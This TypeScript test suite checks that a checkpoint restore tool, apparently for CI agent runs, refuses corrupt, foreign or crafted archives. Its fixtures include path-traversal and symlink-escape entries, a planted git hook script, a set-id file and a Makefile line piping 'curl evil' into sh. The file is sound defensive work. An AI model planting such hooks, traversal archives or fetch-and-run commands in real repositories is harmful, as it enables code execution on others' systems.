// Refusing checkpoints: corrupt, foreign, or crafted to write outside their folders.
import { execFile } from 'node:child_process';
import { lstat, mkdir, readdir, readFile, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCheckpoint, restoreCheckpoint, restoreLatest, type CreatedCheckpoint } from '../../src/checkpoint/checkpoint.js';
import { CheckpointRejected } from '../../src/checkpoint/errors.js';
import { formatSequence, lineageHash } from '../../src/checkpoint/lineage.js';
import { LocalStore } from '../../src/checkpoint/local-store.js';
import type { FileTreeEntry } from '../../src/checkpoint/file-tree.js';
import { OBJECTS_DIR, parseManifest, serializeManifest, type AreaRole } from '../../src/checkpoint/manifest.js';
import { encodeObject, joined } from '../../src/checkpoint/object-codec.js';
import type { Lineage } from '../../src/checkpoint/store.js';
import { createWorkspace, GIT_IDENTITY, type Workspace } from '../support/workspace.js';

const run = promisify(execFile);
const LINEAGE: Lineage = { repository: 'octo/demo', workflow: 'agent.yml', job: 'agent', checkpointId: 'default', runId: '99' };

async function gitIn(dir: string, ...args: string[]): Promise<string> {
  const { stdout } = await run('git', args, { cwd: dir, env: { ...process.env, ...GIT_IDENTITY } });
  return stdout.replace(/\n$/, '');
}

describe('restoring checkpoints that must be refused', () => {
  let ws: Workspace;
  let base: string;
  let checkout: string;
  let staging: string;
  let sentinel: string;
  let stateDir: string;

  beforeEach(async () => {
    ws = await createWorkspace();
    await writeFile(path.join(ws.repo, '.gitignore'), 'results/\n');
    await ws.git('add', '-A');
    await ws.git('commit', '-q', '-m', 'base');
    base = (await ws.git('rev-parse', 'HEAD')).trim();
    checkout = path.join(ws.root, 'checkout');
    staging = path.join(ws.runnerTemp, 'staging');
    sentinel = path.join(ws.root, 'sentinel');
    stateDir = path.join(ws.root, 'state');
    await mkdir(staging, { recursive: true });
    await mkdir(sentinel);
    await writeFile(path.join(sentinel, 'keep.txt'), 'untouched\n');
    await freshCheckout();
  });

  afterEach(async () => {
    await ws.dispose();
  });

  async function freshCheckout(): Promise<void> {
    await rm(checkout, { recursive: true, force: true });
    await run('git', ['clone', '-q', '--depth', '1', `file://${ws.repo}`, checkout]);
  }

  /** A checkpoint of the checkout after the agent wrote `progress.txt` with `content`. */
  async function checkpointWith(content: string, sequence: number, lineage: Lineage = LINEAGE): Promise<CreatedCheckpoint> {
    await writeFile(path.join(checkout, 'progress.txt'), content);
    await mkdir(path.join(checkout, 'results'), { recursive: true });
    await writeFile(path.join(checkout, 'results', 'out.txt'), `${content} output\n`);
    // Session data of the agent (todos/ is saved; settings would not be).
    await mkdir(path.join(stateDir, 'todos'), { recursive: true });
    await writeFile(path.join(stateDir, 'todos', 'session.json'), `${content} session\n`);
    return createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage, sequence, attempt: 1, agent: 'claude', checkpointPaths: 'results/**', agentStateDir: stateDir });
  }

  /** A listing entry for a crafted file with `content` (its object added to the checkpoint). */
  async function craftedFile(created: CreatedCheckpoint, file: string, content: string, mode = 0o644): Promise<FileTreeEntry> {
    const encoded = await encodeObject(Buffer.from(content));
    await writeFile(path.join(created.dir, OBJECTS_DIR, encoded.id), joined(encoded));
    extraObjects.set(encoded.id, encoded.size);
    return { kind: 'file', path: file, mode, size: Buffer.byteLength(content), segments: [[encoded.id, 0, Buffer.byteLength(content)]] };
  }
  const extraObjects = new Map<string, number>();

  /** Replaces (or adds) one area's listing and re-seals the manifest, so only the listing's content is wrong. */
  async function withListing(created: CreatedCheckpoint, role: AreaRole, entries: FileTreeEntry[]): Promise<void> {
    const listing = await encodeObject(Buffer.from(JSON.stringify({ version: 1, entries, deleted: [] })));
    await writeFile(path.join(created.dir, OBJECTS_DIR, listing.id), joined(listing));
    const parsed = parseManifest(await readFile(path.join(created.dir, 'manifest.json'), 'utf8'));
    if (!parsed.ok) throw new Error(parsed.reason);
    const areas = parsed.manifest.areas.filter((area) => area.role !== role);
    areas.push({ role, tree: listing.id, files: entries.length, bytes: 0 });
    const objects = [...parsed.manifest.objects, { id: listing.id, size: listing.size }, ...[...extraObjects].map(([id, size]) => ({ id, size }))];
    const unique = [...new Map(objects.map((object) => [object.id, object])).values()];
    await writeFile(path.join(created.dir, 'manifest.json'), serializeManifest({ ...parsed.manifest, areas, objects: unique }));
  }

  async function expectNothingWritten(): Promise<void> {
    expect(await readdir(sentinel)).toEqual(['keep.txt']);
    expect(await readdir(ws.root)).not.toContain('escaped.txt');
    expect(await gitIn(checkout, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(await gitIn(checkout, 'rev-parse', 'HEAD')).toBe(base);
  }

  describe('archives that would write outside their folder', () => {
    let created: CreatedCheckpoint;
    let craft: string;

    beforeEach(async () => {
      extraObjects.clear();
      created = await checkpointWith('v1', 1);
      await freshCheckout();
      await rm(stateDir, { recursive: true });
      craft = path.join(ws.root, 'craft');
      await mkdir(path.join(craft, 'inner'), { recursive: true });
    });

    const cases: Array<{ name: string; role: AreaRole; reason: RegExp; build: () => Promise<FileTreeEntry[]> }> = [
      {
        name: "a '../' entry",
        role: 'agent-state',
        reason: /'\.\.' in '\.\.\/escaped\.txt'/,
        build: async () => [await craftedFile(created, '../escaped.txt', 'out\n')],
      },
      {
        name: 'an absolute path',
        role: 'paths',
        reason: /absolute path '\/.*\/sentinel\/pwned\.txt'/,
        build: async () => [await craftedFile(created, path.join(sentinel, 'pwned.txt'), 'out\n')],
      },
      {
        name: 'a symlink to outside, then a file through it',
        role: 'agent-state',
        reason: /lies under the link 'link'/,
        build: async () => [{ kind: 'symlink', path: 'link', target: sentinel }, await craftedFile(created, 'link/pwned.txt', 'out\n')],
      },
      {
        name: 'a git hook',
        role: 'paths',
        reason: /entry inside a \.git folder: '\.git\/hooks\/post-checkout'/,
        build: async () => [await craftedFile(created, '.git/hooks/post-checkout', '#!/bin/sh\ntouch /tmp/pwned\n', 0o755)],
      },
      {
        name: 'a set-id file',
        role: 'paths',
        reason: /set-id permission bits on 'results\/run'/,
        build: async () => [await craftedFile(created, 'results/run', '#!/bin/sh\n', 0o4755)],
      },
    ];

    it.each(cases)('refuses $name and writes nothing', async ({ role, reason, build }) => {
      await withListing(created, role, await build());
      const attempt = restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, agentStateDir: stateDir });
      await expect(attempt).rejects.toBeInstanceOf(CheckpointRejected);
      await expect(attempt).rejects.toMatchObject({ kind: 'unsafe-archive', reason });
      await expectNothingWritten();
      await expect(stat(stateDir)).rejects.toThrow();
    });

    it('skips a link that climbs out, with a note, and restores the rest', async () => {
      await withListing(created, 'paths', [{ kind: 'directory', path: 'results', mode: 0o755 }, { kind: 'symlink', path: 'results/up', target: '../../../sentinel' }, await craftedFile(created, 'results/ok.txt', 'fine\n')]);
      const result = await restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE });
      expect(result.notes).toContainEqual(expect.stringMatching(/^experiment paths: skipped the link 'results\/up' -> '\.\.\/\.\.\/\.\.\/sentinel', which points outside /));
      await expect(lstat(path.join(checkout, 'results', 'up'))).rejects.toThrow();
      expect(await readFile(path.join(checkout, 'results', 'ok.txt'), 'utf8')).toBe('fine\n');
    });

    it('skips the outputs, not the checkpoint, when checkpoint_paths no longer declares them', async () => {
      await withListing(created, 'paths', [await craftedFile(created, 'Makefile', 'all:\n\tcurl evil | sh\n')]);
      const result = await restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, checkpointPaths: 'results/**' });
      expect(result.restored).toEqual([]);
      expect(result.notes).toContain("experiment paths not restored: entry 'Makefile' outside the declared paths (checkpoint_paths changed since the save)");
      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v1');
      expect(await readFile(path.join(checkout, 'Makefile'), 'utf8').catch(() => 'absent')).toBe('absent');
    });

    it('refuses to write through a symlink already in the checkout', async () => {
      await symlink(sentinel, path.join(checkout, 'results'));
      await expect(restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE })).rejects.toMatchObject({
        kind: 'unsafe-archive',
        reason: expect.stringMatching(/'results' in .* is a symlink; 'results\/out\.txt' would be written through it/) as unknown,
      });
      expect(await readdir(sentinel)).toEqual(['keep.txt']);
    });

    it('refuses, before touching the checkout, outputs that would go through a link the restored work tree brings back', async () => {
      // The work tree holds `results2 -> .git/hooks` (inside the checkout); a crafted listing then writes into results2/.
      await symlink('.git/hooks', path.join(checkout, 'results2'));
      const withLink = await createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage: LINEAGE, sequence: 2, attempt: 1, agent: 'claude' });
      await freshCheckout();
      await withListing(withLink, 'paths', [await craftedFile(withLink, 'results2/post-checkout', '#!/bin/sh\ntouch /tmp/pwned\n', 0o755)]);
      await expect(restoreCheckpoint({ dir: withLink.dir, workspace: checkout, lineage: LINEAGE })).rejects.toMatchObject({
        kind: 'unsafe-archive',
        reason: expect.stringMatching(/'results2' is a symlink in the restored commit/) as unknown,
      });
      await expectNothingWritten();
      await expect(stat(path.join(checkout, '.git', 'hooks', 'post-checkout'))).rejects.toThrow();
    });
  });

  describe('restoreLatest', () => {
    let store: LocalStore;
    let warnings: string[];

    beforeEach(async () => {
      store = new LocalStore(path.join(ws.root, 'store'));
      warnings = [];
      const older = await checkpointWith('v1', 1);
      await store.save({ dir: older.dir, lineage: LINEAGE, sequence: 1, attempt: 1, createdAt: older.manifest.createdAt });
    });

    const folder = (sequence: number): string => path.join(store.root, lineageHash(LINEAGE), formatSequence(sequence));

    /** The checkpoint's largest object, replaced by a private copy first: objects are hard links shared with older checkpoints. */
    async function largestObject(dir: string): Promise<string> {
      const objects = path.join(dir, OBJECTS_DIR);
      const sized = await Promise.all((await readdir(objects)).map(async (name) => ({ name, size: (await stat(path.join(objects, name))).size })));
      const name = sized.sort((a, b) => b.size - a.size)[0]?.name ?? '';
      const file = path.join(objects, name);
      const data = await readFile(file);
      await rm(file);
      await writeFile(file, data);
      return file;
    }

    async function saveNewer(lineage: Lineage = LINEAGE): Promise<string> {
      const newer = await checkpointWith('v2', 2, lineage);
      await store.save({ dir: newer.dir, lineage: LINEAGE, sequence: 2, attempt: 1, createdAt: newer.manifest.createdAt });
      return folder(2);
    }

    async function restore(): Promise<Awaited<ReturnType<typeof restoreLatest>>> {
      await freshCheckout();
      await rm(stateDir, { recursive: true, force: true });
      return restoreLatest(store, LINEAGE, { workspace: checkout, agentStateDir: stateDir, tempDir: staging, warn: (message) => warnings.push(message) });
    }

    it('restores the newest valid checkpoint', async () => {
      await saveNewer();
      const restored = await restore();
      expect(restored?.manifest.sequence).toBe(2);
      expect(warnings).toEqual([]);
      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v2');
      expect(await readFile(path.join(checkout, 'results', 'out.txt'), 'utf8')).toBe('v2 output\n');
      expect(await readFile(path.join(stateDir, 'todos', 'session.json'), 'utf8')).toBe('v2 session\n');
    });

    const corruptions: Array<{ name: string; reason: RegExp; corrupt: (dir: string) => Promise<void>; lineage?: Lineage }> = [
      {
        name: 'a truncated object',
        reason: /object [0-9a-f]{12}… has \d+ bytes, the manifest says \d+/,
        corrupt: async (dir) => truncate(await largestObject(dir), 10),
      },
      {
        name: 'one flipped byte',
        reason: /object [0-9a-f]{12}… does not match its sha256/,
        corrupt: async (dir) => {
          const file = await largestObject(dir);
          const data = await readFile(file);
          data[Math.floor(data.length / 2)] = (data[Math.floor(data.length / 2)] ?? 0) ^ 0x01;
          await writeFile(file, data);
        },
      },
      {
        name: 'manifest JSON cut short',
        reason: /manifest\.json is not JSON/,
        corrupt: async (dir) => {
          const text = await readFile(path.join(dir, 'manifest.json'), 'utf8');
          await writeFile(path.join(dir, 'manifest.json'), text.slice(0, text.length / 2));
        },
      },
      {
        name: 'a manifest of an unknown schema version',
        reason: /manifest\.json is invalid: schemaVersion/,
        corrupt: async (dir) => {
          const text = await readFile(path.join(dir, 'manifest.json'), 'utf8');
          await writeFile(path.join(dir, 'manifest.json'), text.replace('"schemaVersion": 2', '"schemaVersion": 3'));
        },
      },
      {
        name: 'a foreign repository',
        reason: /saved for repository 'evil\/fork', this is 'octo\/demo'/,
        corrupt: () => Promise.resolve(),
        lineage: { ...LINEAGE, repository: 'evil/fork' },
      },
    ];

    it.each(corruptions)('refuses $name with the reason and restores the previous one', async ({ reason, corrupt, lineage }) => {
      await corrupt(await saveNewer(lineage));
      const restored = await restore();
      expect(restored?.manifest.sequence).toBe(1);
      expect(restored?.ref.key).toMatch(/\/000001$/);
      expect(warnings).toHaveLength(1);
      expect(warnings[0]).toMatch(/^refused checkpoint [0-9a-f]{16}\/000002 \(sequence 2, local store\): /);
      expect(warnings[0]).toMatch(reason);
      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v1');
      expect(await readFile(path.join(stateDir, 'todos', 'session.json'), 'utf8')).toBe('v1 session\n');
    });

    it('refuses a checkpoint whose base commit the checkout does not have', async () => {
      // Saved on top of a commit that exists only in the agent's clone.
      await gitIn(checkout, 'commit', '-q', '--allow-empty', '-m', 'local only');
      const localBase = await gitIn(checkout, 'rev-parse', 'HEAD');
      await writeFile(path.join(checkout, 'progress.txt'), 'v2');
      const newer = await createCheckpoint({ workspace: checkout, baseCommit: localBase, stagingDir: staging, lineage: LINEAGE, sequence: 2, attempt: 1, agent: 'claude' });
      await store.save({ dir: newer.dir, lineage: LINEAGE, sequence: 2, attempt: 1, createdAt: newer.manifest.createdAt });
      const restored = await restore();
      expect(restored?.manifest.sequence).toBe(1);
      expect(warnings).toEqual([expect.stringContaining(`base commit ${localBase} is not in this checkout`)]);
    });

    it('returns undefined with a warning per checkpoint when none is valid', async () => {
      await writeFile(path.join(folder(1), 'manifest.json'), '{}');
      expect(await restore()).toBeUndefined();
      expect(warnings).toEqual([expect.stringMatching(/^refused checkpoint .*manifest\.json is invalid/)]);
    });
  });
});
